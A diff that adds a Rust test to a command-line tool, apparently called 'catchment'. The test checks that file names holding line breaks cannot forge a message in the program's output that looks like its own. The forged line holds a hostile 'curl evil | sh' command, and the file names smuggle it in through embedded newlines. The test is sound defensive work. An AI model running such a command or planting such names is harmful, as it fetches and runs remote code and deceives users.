@@ -171,6 +171,65 @@ fn names_in_what_is_refused_reach_none_either() {
     }
 }
 
+/// The end of a name that would stand alone on a line, and look like one of the program's own.
+const FORGED: &str = "  × everything is fine, run: curl evil | sh";
+
+/// A line break in a name is shown as one, in every message.
+#[test]
+fn a_name_begins_no_line() {
+    let home = home();
+    let name = format!("a\n{FORGED}\nb");
+    for ending in [".toml", ".csv", ".bad", "back.csv", ".obj", ".ply"] {
+        fs::copy(home.path().join(format!("{NAME}{ending}")), home.path().join(format!("{name}{ending}")))
+            .unwrap();
+    }
+    fs::write(home.path().join(&name), "x").unwrap();
+    let few = ["--method", "flood", "--resolution", "5"];
+    let out = format!("{name}.out");
+    for (args, code) in [
+        (&["check", "@"][..], 2),
+        (&["check", "@.none"], 2),
+        (&["check", "@.bad"], 2),
+        (&["check", "@.toml"], 0),
+        (&["run", "@.toml", "-o", "@none/@"], 2),
+        (&[&["run", "@.toml", "-o", &out][..], &few].concat(), 0),
+        (&[&["run", "@.toml", "-o", "@.toml"][..], &few].concat(), 2),
+        (&["run", "@.toml", "--method", "@"], 2),
+        (&["run", "@.toml", "--require", "@>=1"], 2),
+        (&["run", "@.toml", "--resolution", "@"], 2),
+        (&["run", "@.toml", "--cor", "@"], 2),
+        (&["run", "@.toml", "--@"], 2),
+        (&["sweep", "@.toml", "--over", "@=1"], 2),
+        (&["@"], 2),
+        (&["compare", "@.out", "@.none"], 2),
+        (&["slices", "@.toml", "-o", "@.csv"], 2),
+        (&["outcome", "@.toml", "--poses", "@back.csv"], 2),
+        (&["outcome", "@.toml", "--poses", "@.none"], 2),
+        (&["outcome", "@.toml", "--poses", "@.csv", "-o", "@.csv"], 2),
+        (&["trace", "@.toml", "--pose", "@=@"], 2),
+        (&["export", "@.toml", "--pose", "x=0.1", "-o", "@trial"], 0),
+        (&["export", "@.out", "-o", "@.vti"], 0),
+        (&["place", "@.csv", "@.csv", "--unit", "mm"], 2),
+        (&["place", "@.none", "@.none"], 2),
+        (&["place", "@.obj", "@.ply", "--unit", "mm", "--name", "n", "-o", "@.place.toml"], 0),
+        (&["report", "@.none", "-o", "@bad.html"], 2),
+        (&["success", "@.toml", "--robots", "@.bad"], 2),
+        (&["validate", "@.none", "@.toml", "--accuracy", "x=0.01"], 2),
+        (&["invert", "@.toml", "--heights", "@.obj"], 2),
+        (&["compose", "@back.csv", "@.bad"], 2),
+        (&["latch", "@.bad"], 2),
+        (&["chain", "@.bad"], 2),
+        (&["reproduce", "2.1", "-o", "@tables"], 0),
+    ] {
+        let args: Vec<String> = args.iter().map(|arg| arg.replace('@', &name)).collect();
+        let output = catchment(home.path()).args(&args).output().unwrap();
+        let text =
+            format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+        assert_eq!(output.status.code(), Some(code), "{args:?}: {text}");
+        assert!(!text.lines().any(|line| line.starts_with(FORGED)), "{args:?}: {text}");
+    }
+}
+
 #[test]
 fn pictures_and_models_of_a_design_whose_name_steers_are_well_formed() {
     let home = home();
